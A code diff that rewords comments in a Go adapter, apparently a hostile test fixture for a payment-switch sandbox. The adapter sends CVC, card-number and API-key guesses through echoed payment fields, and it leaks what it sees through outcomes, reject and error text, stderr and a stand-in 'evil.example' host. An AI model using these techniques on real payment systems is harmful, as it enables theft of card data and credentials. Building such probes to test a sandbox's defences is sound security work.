@@ -8,16 +8,16 @@ import (
 	"payswitch/sdk"
 )
 
-// Answers tries to learn secrets from what a processor answers that echoes what it is sent. It makes honest payments, writes guesses into a
-// field that comes back, asks for answers in other forms, and carries whatever it sees to where it can be read: outcomes, rejects, errors,
-// standard error. ok is false where the mode is none of its.
+// answers tries to learn secrets from the answers of a processor that echoes its requests. It makes honest payments, writes
+// guesses into an echoed field, asks for answers in other forms, and carries what it sees into outcomes, rejects, errors and
+// standard error. ok is false for an unknown mode.
 func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err error) {
 	card := c.Request.Instrument.Card
 	own := sdk.H("Authorization", "Bearer "+c.Account.Credentials["secret_key"])
 	honest := func() *sdk.Object {
 		return sdk.NewObject().Str("reference", c.Request.Reference).Obj("card", sdk.NewObject().Str("number", card.Number).Str("cvc", card.CVC))
 	}
-	// pay is an honest payment with a note, whose answer the adapter tells everybody.
+	// pay is an honest payment with a note. The adapter reveals the whole answer.
 	pay := func(note string, headers ...sdk.Header) (*sdk.Outcome, bool, error) {
 		r, err := c.Do(post(c.Account.BaseURL+"/pay", honest().Str("note", note), append(headers, own)...))
 		if err != nil {
@@ -26,30 +26,30 @@ func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err erro
 		return tell(r), true, nil
 	}
 	switch mode {
-	case "see": // the processor echoes in the form that the test says
+	case "see": // the processor echoes in the form that the test names
 		return pay("x")
-	case "ask": // for an answer in another form
+	case "ask": // asks for an answer in another form
 		name, value, _ := strings.Cut(arg, "=")
 		return pay("x", sdk.H(name, value))
-	case "cvc_candidates": // one of a thousand is right
+	case "cvc_candidates": // one of a thousand guesses is right
 		var all strings.Builder
 		for n := range 1000 {
 			fmt.Fprintf(&all, "cvc=%03d;", n)
 		}
 		return pay(all.String())
-	case "cvc_fields": // the same as fields of a document
+	case "cvc_fields": // the same guesses, as fields of a document
 		var all strings.Builder
 		for n := range 1000 {
 			fmt.Fprintf(&all, `{"cvc":"%03d"},`, n)
 		}
 		return pay(all.String())
-	case "number_candidates": // numbers of the card's first six and last four with a right check digit: as many as fuel lasts for, or all
+	case "number_candidates": // numbers with the card's first six and last four digits and a valid check digit: all, or as many as the fuel allows
 		count := 1500
 		if c.Account.Config["target"] == "all" {
 			count = 12000
 		}
 		return pay(strings.Join(Candidates(card.BIN, card.LastFour, int(card.Length), count), arg))
-	case "key_candidates": // of what follows a part of the key that is known, as a window that slides along it
+	case "key_candidates": // guesses of the characters after a known part of the key, in a sliding window
 		var all strings.Builder
 		for _, a := range "abcdefghijklmnopqrstuvwxyz0123456789_" {
 			for _, b := range "abcdefghijklmnopqrstuvwxyz0123456789_" {
@@ -57,7 +57,7 @@ func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err erro
 			}
 		}
 		return pay(all.String())
-	case "capture_candidates": // which of its guesses shares a stand-in with the CVC
+	case "capture_candidates": // looks for a guess that shares a stand-in with the CVC
 		s := post(c.Account.BaseURL+"/pay", honest().Str("note", arg), own)
 		s.Capture = []sdk.Capture{{Path: "cvc", Name: "a"}, {Path: "number", Name: "b"}, {Path: "note", Name: "c"}}
 		r, err := c.Do(s)
@@ -65,7 +65,7 @@ func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err erro
 			return nil, true, err
 		}
 		return tell(r), true, nil
-	case "carry": // connector_data from one operation to the next
+	case "carry": // carries connector_data from one operation to the next
 		note := "first"
 		if d := c.Request.ConnectorData; d != nil {
 			note = d.Payment
@@ -73,7 +73,7 @@ func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err erro
 		return pay(note)
 	case "reject_text":
 		return nil, true, &sdk.Reject{Code: sdk.RejectInvalid, Message: arg, Parameter: "card " + arg}
-	case "error_text": // the host's error names the host that was refused
+	case "error_text": // the error names the refused host
 		return nil, true, func() error { _, err := c.Get("https://a" + arg + ".evil.example/"); return err }()
 	case "stderr":
 		fmt.Fprintln(os.Stderr, "adapter notes "+arg)
@@ -85,7 +85,7 @@ func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err erro
 	return nil, false, nil
 }
 
-// tell puts all that the adapter has seen of an answer into an outcome.
+// tell writes everything that the adapter has seen of an answer into an outcome.
 func tell(r *sdk.Response) *sdk.Outcome {
 	var headers strings.Builder
 	for _, h := range r.Headers {
@@ -99,7 +99,7 @@ func tell(r *sdk.Response) *sdk.Outcome {
 		ConnectorData: &sdk.ConnectorData{Payment: body[:min(len(body), 4000)]}, Raw: map[string]string{"body": body, "headers": headers.String()}}
 }
 
-// Candidates are numbers that begin and end as the card's does and have a right check digit.
+// Candidates are numbers with the card's first and last digits and a valid check digit.
 func Candidates(first, last string, length, count int) (all []string) {
 	number := []byte(first + strings.Repeat("0", length-len(first)-len(last)) + last)
 	for len(all) < count {
